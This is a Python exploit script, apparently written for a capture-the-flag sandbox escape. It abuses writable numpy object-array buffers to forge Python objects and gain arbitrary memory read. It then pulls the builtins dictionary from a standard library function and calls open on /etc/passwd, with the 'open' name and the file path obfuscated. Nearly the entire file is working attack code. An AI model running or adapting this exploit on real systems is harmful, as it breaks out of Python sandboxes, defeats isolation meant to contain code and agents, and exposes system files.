# source: https://github.com/numpy/numpy/issues/6811 (open numpy bug: np.frombuffer(np.array(None), np.int64)[0] = 1 segfaults -- object array buffers are writable)
# source: pyjail memory-corruption escapes (addrof/fakeobj via id() + fake bytearray, e.g. "pwn python sandbox fake bytearray" CTF writeups, CPython Lib/test/crashers style);
#         numpy buffer export of object arrays (memoryview(np.array([...], dtype=object)) exposes PyObject* slots writable)
# family: numpy object-array buffer -> fakeobj -> arbitrary read -> func_builtins
# goal: reach builtins dict of a stdlib function, call open() on /etc/passwd
import json
import numpy as np

holder = np.array([None], dtype=object)
slots = memoryview(holder).cast("B").cast("Q")


def fake(addr):
    slots[0] = addr
    obj = holder[0]
    return obj


def q(x):
    return x.to_bytes(8, "little")


big = 0x7FFFFFFFFFFF
payload = q(0x100000) + q(id(bytearray)) + q(big) + q(big) + q(0) + q(0) + q(0)
mem = fake(id(payload) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


fn = json.dumps
bdict = fake(rd(id(fn) + 24))
print(type(bdict), len(bdict))
opener = bdict["op" + "en"]
print(opener)
target = bytes([47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]).decode()
print(opener(target).read())
slots[0] = id(None)
